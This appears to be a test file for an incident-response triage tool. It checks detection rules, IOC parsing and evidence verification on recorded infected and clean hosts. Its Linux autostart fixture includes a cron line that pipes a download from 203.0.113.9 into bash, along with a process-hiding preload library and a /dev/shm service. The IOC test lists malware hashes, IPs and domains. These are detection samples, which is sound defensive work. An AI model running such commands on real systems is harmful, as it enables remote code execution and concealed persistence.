// Triage end to end: the built-in rules on an infected and a clean recorded host (golden),
// a real Linux process that the Linux rule must catch, IOC files in every format, the CLI,
// and evidence that still verifies afterwards.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawn, spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { importFiles } from '../lib/importers/import.ts';
import { verifyEvidence } from '../lib/evidence/verify.ts';
import { triageFolder } from '../lib/triage/engine.ts';
import { Intel, loadIocFile } from '../lib/triage/intel.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { levelRank } from '../lib/triage/engine.ts';
import { cli, collectRecordedWindowsHost, FIXTURES, pwshOrFail, readJson, readJsonl, tempDir, writeTree } from './helpers.ts';
import { goldenRows, infectedHostDirs, TRIAGE_GOLDEN } from './fixtures/golden.ts';

pwshOrFail();
const IMPORT = join(FIXTURES, 'import');
const rules = loadRules();
const hosts: Record<'infected' | 'clean', string[]> = { infected: [], clean: [] };

test.before(async () => {
  const out = tempDir();
  const imp = (kind: string, files: string[], host: string) => importFiles(kind, files.map((f) => join(IMPORT, f)), { host, caseId: 'golden', out }).then((r) => r.dir);
  hosts.infected = await infectedHostDirs(out);
  hosts.clean = [
    await collectRecordedWindowsHost('clean', out),
    await imp('autoruns', ['autorunsc-clean-utf8bom.csv', 'autorunsc-clean-utf8.csv'], 'WS-FIN-007'),
    await imp('defender', ['mp-status-clean.json', 'mp-preference-clean.json'], 'WS-FIN-007'),
  ];
});

async function findingsOf(dirs: string[]) {
  const all = [];
  for (const d of dirs) all.push(...(await triageFolder(d, { rules })).findings);
  return all;
}

test('infected host: every finding of every built-in rule matches the golden list', async () => {
  const got = goldenRows(await findingsOf(hosts.infected));
  // Compared only: scripts/update-golden.ts rewrites the golden list, after review.
  assert.equal(got, readJson(TRIAGE_GOLDEN));
  const fired = new Set(got.map((g) => g[0]));
  // Rules for patterns this host does not have fire on the infected lab machine and the healthy
  // server instead (triage-precision.test.ts checks each there).
  const elsewhere = ['magpie-autorun-wmi-consumer', 'magpie-autorun-accessibility-hijack', 'magpie-autorun-lsa-appinit', 'magpie-autorun-image-hijack', 'magpie-autorun-shortcut-interpreter', 'magpie-autorun-stale-vendor', 'magpie-autorun-policies-run-vendor', 'magpie-autorun-lookalike-name', 'magpie-autorun-fake-system-folder', 'magpie-process-fake-system-folder', 'magpie-process-script-host'];
  // YARA matches come from the yara-fetched example (responder-examples.test.ts checks the rule there).
  elsewhere.push('magpie-yara-match');
  // Loaded modules come from suspicious-modules (responder-examples.test.ts checks the rule there).
  elsewhere.push('magpie-module-unsigned-in-system-process');
  // BITS notify commands, COM hijacks and the system loaders (print monitors, Winlogon Notify, Active
  // Setup, service failure commands): windows-autoruns.test.ts plants and checks them.
  // Accounts are not in triage: windows-accounts.test.ts checks its rules on an infected and a healthy host.
  elsewhere.push('magpie-account-new-local-admin', 'magpie-account-local-admin');
  // Prefetch is not in triage (windows-prefetch.test.ts); the RDP and encoded script-block rules read
  // event logs (rdp-logon-rule.test.ts, ps-scriptblock-rule.test.ts).
  elsewhere.push('magpie-prefetch-attack-tool', 'magpie-prefetch-dual-use-tool', 'magpie-rdp-logon-public-address', 'magpie-ps-scriptblock-encoded');
  elsewhere.push('magpie-autorun-bits-notify', 'magpie-autorun-bits-notify-script', 'magpie-autorun-com-hijack', 'magpie-autorun-system-loader-suspicious');
  // The ransomware rules read ransomware-signs records, which triage does not collect:
  // windows-ransomware.test.ts runs that step on an encrypted and a healthy host and checks each rule.
  const ransomware = ['magpie-ransomware-note', 'magpie-ransomware-mass-rename', 'magpie-ransomware-recovery-disabled', 'magpie-ransomware-recovery-commands'];
  // PowerShell history (ps-history) is not in triage either: windows-ps-history.test.ts checks it.
  ransomware.push('magpie-ps-history-attack-commands', 'magpie-hosts-file-redirect');
  // net-context is not in triage either: windows-net-context.test.ts checks its rules on both hosts.
  ransomware.push('magpie-firewall-user-writable-program', 'magpie-firewall-open-inbound', 'magpie-named-pipe-offensive', 'magpie-proxy-local-or-unusual');
  // Rules over event logs (Sigma-format built-ins) read the eventlogs step's records, which triage
  // does not collect: windows-eventlogs.test.ts runs them on an infected and a healthy host.
  // (PowerShell script-block rules also read ps-history's commands, which triage does not collect.)
  // Capture rules read what triage derives from captures (flow, dns, beacon): traffic-capture.test.ts
  // makes real traffic and checks them there.
  const traffic = (r: (typeof rules)[number]) => ['flow', 'dns', 'beacon'].includes(String(r.def.logsource?.category));
  const eventLog = (r: (typeof rules)[number]) => !!r.sigmaCorrelation || (!!r.targets && Object.keys(r.targets).every((k) => k === 'event' || k === 'text'));
  for (const r of rules) if (!r.def.id.startsWith('magpie-linux') && !elsewhere.includes(r.def.id) && !ransomware.includes(r.def.id) && !eventLog(r) && !traffic(r)) assert.ok(fired.has(r.def.id), `${r.def.id} fires on the infected host`);
});

test('clean host: no finding at level high or above', async () => {
  const high = (await findingsOf(hosts.clean)).filter((f) => levelRank(f.rule.level) >= levelRank('high'));
  assert.equal(high.map((f) => `${f.rule.id}: ${f.record.name ?? f.record.entry}`), []);
});

test('the worm correlation names the process, counts distinct targets and points at the records', async () => {
  const [f] = (await triageFolder(hosts.infected[0], { rules })).findings.filter((x) => x.rule.id === 'magpie-worm-smb-fanout');
  assert.is(f.record.name, 'mssecsvc.exe');
  assert.is(f.group!.by.pid, 2300);
  assert.is(f.group!.count, 64);
  assert.ok(f.group!.distinct >= 60);
  assert.match(f.location.file, /03-processes\/records\.jsonl$/);
  const rec = readJsonl(join(hosts.infected[0], f.location.file))[f.location.line - 1];
  assert.is(rec.pid, 2300, 'file and line lead to the record');
  assert.ok(f.group!.locations.every((l) => /02-network/.test(l.file)));
});

test('a record that does not validate is reported with file and line; the rest is still triaged', async () => {
  const copy = join(tempDir(), 'copy');
  spawnSync('cp', ['-a', hosts.infected[0], copy]);
  const file = join(copy, 'steps', '03-processes', 'records.jsonl');
  writeFileSync(file, readFileSync(file, 'utf8') + '{"pid":"not a number","name":"x"}\nnot json\n');
  const r = await triageFolder(copy, { rules });
  assert.equal(r.problems, ['steps/03-processes/records.jsonl:21: not a valid process record: pid: Invalid input: expected number, received string; skipped', 'steps/03-processes/records.jsonl:22: not JSON; skipped']);
  assert.ok(r.findings.some((f) => f.rule.id === 'magpie-worm-smb-fanout'));
});

test('IOC files in every format match hashes (any case), IPs exactly and by CIDR, and domains', async () => {
  const dir = writeTree({
    'plain.txt': '# analyst list\n24D004A104D4D54034DBCFFC2A4B19A11F39008A575AA614EA04703480B1022C\n104.243.33.118\n',
    'typed.csv': 'type,value\nsha256,ED01EBFBC9EB5BBEA545AF4D01BF5F1071661840480439C6E5BABE8E080E41AA\nip-dst,10.20.1.0/24\nurl,http://ignored.example/\n',
    'feed.csv': 'Indicator_type,Data,Description\nFileHash-SHA256,0000000000000000000000000000000000000000000000000000000000000000,unrelated\ndomain,minexmr.com,pool\n',
    'misp.json': JSON.stringify({ Event: { info: 'WannaCry', Attribute: [{ type: 'ip-dst|port', value: '185.220.101.47|443' }, { type: 'filename|md5', value: 'x.exe|db349b97c37d22f5ea1d1841e3c89eb4' }], Object: [{ Attribute: [{ type: 'domain', value: 'iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com' }] }] } }),
  });
  const intel = new Intel();
  for (const f of ['plain.txt', 'typed.csv', 'feed.csv', 'misp.json']) loadIocFile(intel, join(dir, f));
  // typed.csv: a hash, a CIDR and a URL (URLs are indicators too, matched against command lines).
  assert.equal(intel.files.map((f) => f.indicators), [2, 3, 2, 3]);
  const findings = [];
  for (const d of hosts.infected) findings.push(...(await triageFolder(d, { rules: [], intel })).findings);
  const hits = findings.map((f) => `${f.rule.id}:${f.ioc!.value}`);
  assert.ok(hits.includes('ioc-hash:24d004a104d4d54034dbcffc2a4b19a11f39008a575aa614ea04703480b1022c'), 'process image hash');
  assert.ok(hits.includes('ioc-hash:ED01EBFBC9EB5BBEA545AF4D01BF5F1071661840480439C6E5BABE8E080E41AA'.toLowerCase()) || hits.includes('ioc-hash:ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa'), 'autorun hash');
  assert.ok(hits.includes('ioc-hash:db349b97c37d22f5ea1d1841e3c89eb4'), 'MISP filename|md5');
  assert.ok(hits.includes('ioc-ip:104.243.33.118'));
  assert.ok(hits.includes('ioc-ip:10.20.1.17'), 'CIDR from a typed CSV');
  assert.ok(hits.includes('ioc-ip:185.220.101.47'), 'MISP ip-dst|port');
  assert.ok(hits.includes('ioc-domain:pool.minexmr.com'), 'a subdomain of a listed domain in a command line');
  assert.ok(findings.every((f) => f.location.line > 0));
  const bad = writeTree({ 'bad.txt': 'not-a-valid-thing!!\n' });
  assert.throws(() => loadIocFile(new Intel(), join(bad, 'bad.txt')), (e: unknown) => /bad\.txt:1: "not-a-valid-thing!!" is not a hash/.test(String(e)));
});

test('magpie triage: outputs in triage/<stamp>/, evidence untouched and still verifying, Timesketch timeline', async () => {
  const dir = join(tempDir(), 'host');
  spawnSync('cp', ['-a', hosts.infected[0], dir]);
  const sumsBefore = readFileSync(join(dir, 'SHA256SUMS'), 'utf8');
  const iocs = writeTree({ 'iocs.txt': '104.243.33.118\n' });
  const r = cli(['triage', dir, '--ioc', join(iocs, 'iocs.txt')]);
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stdout, /WS-FIN-042 — \d+ findings \(1 critical, \d+ high/);
  assert.match(r.stdout, /CRITICAL +One process opening SMB connections to many hosts/);
  const out = /report: (.+)\/report\.html/.exec(r.stdout)![1];
  for (const f of ['findings.json', 'timeline.jsonl', 'report.html', 'triage.json', 'SHA256SUMS']) assert.ok(existsSync(join(out, f)), f);
  assert.is(spawnSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: out }).status, 0);
  assert.is(readFileSync(join(dir, 'SHA256SUMS'), 'utf8'), sumsBefore);
  assert.is(spawnSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: dir }).status, 0, 'collected files unchanged');
  const report = await verifyEvidence(dir);
  assert.ok(report.ok, JSON.stringify(report));
  assert.ok(report.checked > 10);
  const findings = readJson(join(out, 'findings.json'));
  assert.ok(findings.findings.some((f: any) => f.rule.id === 'ioc-ip'));
  assert.ok(findings.findings.every((f: any) => f.host === 'WS-FIN-042' && f.location.file && f.record));
  const timeline = readJsonl(join(out, 'timeline.jsonl'));
  assert.ok(timeline.length > 20);
  for (const e of timeline) {
    assert.ok(e.message && e.timestamp_desc && /^\d{4}-\d\d-\d\dT/.test(e.datetime), JSON.stringify(e));
  }
  assert.ok(timeline.some((e) => e.timestamp_desc === 'Process Start' && e.tag.includes('magpie-miner-commandline')));
  // A second triage run never overwrites the first.
  const again = cli(['triage', dir, '--json']);
  assert.is(again.code, 0);
  assert.is.not(JSON.parse(again.stdout).hosts[0].out, out);
  // Changing a triage output is caught too.
  writeFileSync(join(out, 'findings.json'), '{}');
  assert.ok((await verifyEvidence(dir)).changed.some((c) => c.endsWith('findings.json')));
});

test('Linux autostarts: a download piped to a shell, a unit in /dev/shm, ld.so.preload — and a clean cron job is not flagged', async () => {
  const { EvidenceWriter } = await import('../lib/evidence/writer.ts');
  const step = { index: 1, id: 'autoruns', stepId: 'autoruns', description: 'x', kind: 'autorun' as const, timeoutSec: 1, continueOnError: true, admin: false, params: {}, tools: [], scripts: {}, source: 'test' };
  const w = EvidenceWriter.create({ root: tempDir(), caseId: 'lx', targetName: 'web-01', transport: 'import', plan: { playbook: { name: 'lx', file: 'lx', sha256: '0'.repeat(64), params: {} }, steps: [step] } });
  const rec = (entry: string, category: string, launchString: string) => ({ location: '/etc/cron.d/x', entry, category, enabled: true, launchString, imagePath: launchString.split(' ')[0] });
  const records = [
    rec('* * * * *', 'Tasks', 'curl -fsSL http://203.0.113.9/x.sh | bash'),
    rec('kworker.service', 'Services', '/dev/shm/.x/kworker --daemon'),
    rec('/usr/local/lib/libprocesshider.so', 'Preload', '/usr/local/lib/libprocesshider.so'),
    rec('25 6 * * *', 'Tasks', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'),
    rec('ssh.service', 'Services', '/usr/sbin/sshd -D $SSHD_OPTS'),
  ];
  const stage = writeTree({ 'records.jsonl': records.map((r) => JSON.stringify(r)).join('\n') + '\n' });
  await w.recordStep(step, { status: 'ok', reason: null, partial: false, os: 'linux', fetched: stage });
  const dir = await w.finish('complete');
  const findings = (await triageFolder(dir, { rules })).findings;
  const hits = findings.filter((f) => f.rule.id === 'magpie-linux-autorun-suspicious').map((f) => f.record.entry);
  assert.equal(hits.sort(), ['* * * * *', '/usr/local/lib/libprocesshider.so', 'kworker.service']);
  assert.equal(findings.filter((f) => f.rule.id === 'magpie-service-suspicious').map((f) => f.record.entry), [], 'Windows service rules stay off Linux units');
});

test('a real Linux process from /tmp whose binary is deleted is caught by the Linux rule', async () => {
  const work = tempDir();
  const bin = join(work, 'kworker-upd');
  copyFileSync('/bin/sleep', bin);
  const child = spawn(bin, ['307'], { stdio: 'ignore' });
  await new Promise((r) => setTimeout(r, 200));
  unlinkSync(bin);
  try {
    const out = tempDir();
    const run = cli(['run', 'triage', '--out', out, '--param', 'HashImages=true']);
    assert.is(run.code, 0, run.stderr);
    const dir = /evidence: (.+)/.exec(run.stdout)![1].trim();
    const { findings } = await triageFolder(dir, { rules });
    const hit = findings.find((f) => f.rule.id === 'magpie-linux-deleted-or-tmp-binary' && f.record.pid === child.pid);
    assert.ok(hit, `no finding for pid ${child.pid}: ${findings.map((f) => `${f.rule.id}:${f.record.pid}`).join(', ')}`);
    assert.is(hit!.record.deleted, true);
    assert.match(String(hit!.record.path), /kworker-upd \(deleted\)$/);
    assert.match(String(hit!.record.sha256), /^[a-f0-9]{64}$/, 'hashed through /proc/<pid>/exe although deleted');
  } finally {
    child.kill();
  }
});

test.run();
